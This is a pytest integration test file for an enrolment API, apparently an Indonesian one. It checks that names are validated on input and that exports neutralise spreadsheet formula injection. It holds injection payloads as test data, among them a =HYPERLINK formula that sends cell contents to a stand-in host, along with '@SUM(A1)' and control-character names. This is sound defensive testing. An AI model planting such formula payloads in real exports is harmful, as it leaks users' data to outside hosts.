"""Safe files out: names are checked at every input, and whatever is stored can neither leave a
formula in an export nor break it (the walk's `=HYPERLINK` name and a `\\u0001` name)."""

from __future__ import annotations

import csv
import io
import zipfile
from dataclasses import replace

import pytest
from openpyxl import load_workbook

from chalicelib import config
from tests.integration.helpers import VILLAGE_A, new_person, new_programme, wait_indexed

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HYPERLINK = '=HYPERLINK("http://x/?"&A2,"Klik")'


@pytest.fixture()
def dispatcher(chalice_app):
    import app as app_module
    from devtools.dispatcher import Dispatcher

    return Dispatcher(app_module)


@pytest.mark.parametrize("name", [HYPERLINK, "Budi\u0001Santoso", "www.judi-online.example", "Budi http://x.id"])
def test_create_patch_and_sync_refuse_a_name_that_is_not_a_name(api, admin, name):
    pid = new_programme(api, admin)["id"]
    r = api.call("POST", f"/v1/programmes/{pid}/enrolments", admin, new_person(name=name))
    assert r.status_code == 422 and r.data["error"]["code"] == "NAME_INVALID", r.data
    assert "huruf" in r.data["error"]["fields"]["name"]
    ok = api.call("POST", f"/v1/programmes/{pid}/enrolments", admin, new_person(name="Siti Aminah"))
    assert ok.status_code == 201
    patched = api.call("PATCH", f"/v1/enrolments/{ok.data['id']}", admin, {"name": name}, headers={"If-Match": "1"})
    assert patched.status_code == 422 and patched.data["error"]["code"] == "NAME_INVALID"
    officer = __import__("devtools.tokens", fromlist=["mint"]).mint("officer", [VILLAGE_A])
    synced = api.call("POST", "/v1/sync", officer, {"operations": [
        {"op_id": "n1", "op": "create", "type": "enrolment", "programme_id": pid, "data": new_person(name=name)}]})
    (result,) = synced.data["results"]
    assert result["status"] == "rejected" and result["error"]["code"] == "NAME_INVALID"
    assert api.call("GET", f"/v1/enrolments/{ok.data['id']}", admin).data["name"] == "Siti Aminah"


def test_an_import_rejects_the_row_with_a_formula_name_and_keeps_the_others(api, admin, dispatcher):
    pid = new_programme(api, admin)["id"]
    good, evil = new_person(), new_person(name=HYPERLINK)
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";")
    writer.writerow(["nik", "nama", "tanggal_lahir", "jenis_kelamin", "kode_desa", "kategori"])
    for p in (good, evil):
        writer.writerow([p["nik"], p["name"], p["birth_date"], p["sex"], p["village_code"], p["category"]])
    r = api.call("POST", f"/v1/programmes/{pid}/imports", admin, raw=out.getvalue().encode(),
                 headers={"Content-Type": "text/csv"})
    dispatcher.drain(config.queue_name("imports"))
    job = api.call("GET", f"/v1/imports/{r.data['import_id']}", admin).data
    assert (job["accepted"], job["rejected"]) == (1, 1)
    assert [(e["row"], e["code"], e["column"]) for e in job["errors"]] == [(3, "NAME_INVALID", "nama")]


def _store_name_directly(eid: str, name: str) -> None:
    """What validation can no longer let in, but older records (or a bug) might hold."""
    from chalicelib.store import enrolments as repo
    from chalicelib.store.audit import AuditEntry

    current = repo.get("16.03", eid)
    bad = replace(current, name=name, version=current.version + 1)
    repo.replace(bad, current.version, AuditEntry("16.03", "enrolment", eid, "update", "test", "admin",
                                                  bad.updated_at, f"t-{eid}", {"name": [current.name, name]}),
                 f"tok-{eid}")


def _export(api, token, pid, fmt):
    r = api.client.http.get(f"/v1/programmes/{pid}/export?format={fmt}",
                            headers={"Authorization": f"Bearer {token}", "Accept": XLSX if fmt == "xlsx" else "*/*"})
    assert r.status_code == 200, r.body[:300]
    return r.body


def test_stored_formula_and_control_character_names_export_as_plain_text(api, admin):
    pid = new_programme(api, admin)["id"]
    made = [api.call("POST", f"/v1/programmes/{pid}/enrolments", admin,
                     new_person(occupation=occ)).data for occ in ("petani", "penyadap karet", "guru ngaji", "linmas")]
    evil = {made[0]["id"]: HYPERLINK, made[1]["id"]: "Siti\u0001Aminah", made[2]["id"]: "+6281234567890",
            made[3]["id"]: "@SUM(A1)"}
    for eid, name in evil.items():
        _store_name_directly(eid, name)
    wait_indexed(api, admin, pid, list(evil))  # the export reads the programme's GSI
    expected = {HYPERLINK: "'" + HYPERLINK, "Siti\u0001Aminah": "SitiAminah", "+6281234567890": "'+6281234567890",
                "@SUM(A1)": "'@SUM(A1)"}

    body = _export(api, admin, pid, "csv")
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    assert sorted(r["nama"] for r in rows) == sorted(expected.values())
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())

    body = _export(api, admin, pid, "xlsx")
    with zipfile.ZipFile(io.BytesIO(body)) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
    sheet = load_workbook(io.BytesIO(body)).active
    header = [c.value for c in sheet[1]]
    names = [row[header.index("nama")] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert sorted(names) == sorted(expected.values())
    nik_cells = [row[header.index("nik")] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "s" and c.number_format == "@" for c in nik_cells)
